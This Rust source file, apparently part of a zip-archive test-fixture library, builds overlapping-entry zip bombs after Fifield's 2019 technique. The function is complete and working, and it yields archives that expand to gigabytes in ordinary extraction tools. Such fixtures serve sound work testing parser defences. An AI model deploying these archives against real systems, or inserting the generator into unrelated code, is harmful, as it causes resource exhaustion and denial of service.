//! The quoted-overlap bomb: entries whose data are the local headers of the next ones.

use crc32fast::Hasher;

use crate::builder::{Archive, Entry, Place, mode};
use crate::fixtures;
use crate::record::{CentralDirectoryHeader, LocalFileHeader};

/// As a DOS date (APPNOTE 4.4.6).
const FIRST_OF_JANUARY_2024: u16 = (44 << 9) | (1 << 5) | 1;

/// An archive of `entries` files that all end in one kernel of `kernel_len` deflated zeros.
///
/// Entry i's data is a non-final stored DEFLATE block that quotes the local header of entry i + 1,
/// followed by that entry's data (David Fifield, "A better zip bomb", 2019). Every CRC-32, size and
/// name is true; only the ranges overlap. The output grows with entries times `kernel_len`, the
/// file with their sum.
///
/// # Panics
/// Where `entries` is 0.
pub fn quoted_overlap(entries: usize, kernel_len: usize) -> Vec<u8> {
    assert!(entries > 0, "the kernel belongs to the last entry");
    // The content itself is never made: of 250 entries it can be gigabytes.
    let kernel = vec![0; kernel_len];
    let mut data = fixtures::deflate(9, &kernel);
    let (mut content_len, mut crc) = (kernel_len, Hasher::new());
    crc.update(&kernel);
    let mut file = Vec::new();
    let mut directory = Vec::new();
    // From the last entry to the first: each one quotes what is already there.
    for index in (0..entries).rev() {
        if index + 1 < entries {
            let header = file[..file.len() - data.len()].to_vec();
            let len = header.len() as u16;
            let mut quoting = vec![0];
            quoting.extend_from_slice(&len.to_le_bytes());
            quoting.extend_from_slice(&(!len).to_le_bytes());
            quoting.extend_from_slice(&header);
            data.splice(..0, quoting);
            content_len += header.len();
            let mut quoted_first = Hasher::new();
            quoted_first.update(&header);
            quoted_first.combine(&crc);
            crc = quoted_first;
        }
        let header = LocalFileHeader {
            method: 8,
            date: FIRST_OF_JANUARY_2024,
            crc32: crc.clone().finalize(),
            compressed_size: data.len() as u32,
            uncompressed_size: content_len as u32,
            name: index.to_string().into_bytes(),
            ..LocalFileHeader::default()
        };
        file.clear();
        header.write(&mut file);
        file.extend_from_slice(&data);
        directory.push((header, file.len()));
    }
    let total = file.len();
    let listed = directory.into_iter().rev().map(|(header, len)| {
        let truth = CentralDirectoryHeader {
            // Made on Unix by version 3.0.
            version_made_by: 3 << 8 | 30,
            method: header.method,
            date: header.date,
            crc32: header.crc32,
            compressed_size: header.compressed_size,
            uncompressed_size: header.uncompressed_size,
            name: header.name,
            external_attributes: mode::REGULAR << 16,
            local_header_offset: (total - len) as u32,
            ..CentralDirectoryHeader::default()
        };
        Entry::stored("", "")
            .place(Place::At(truth.local_header_offset))
            .edit_central(move |central| *central = truth.clone())
    });
    Archive { before_directory: file, ..Archive::new().entries(listed) }.build()
}
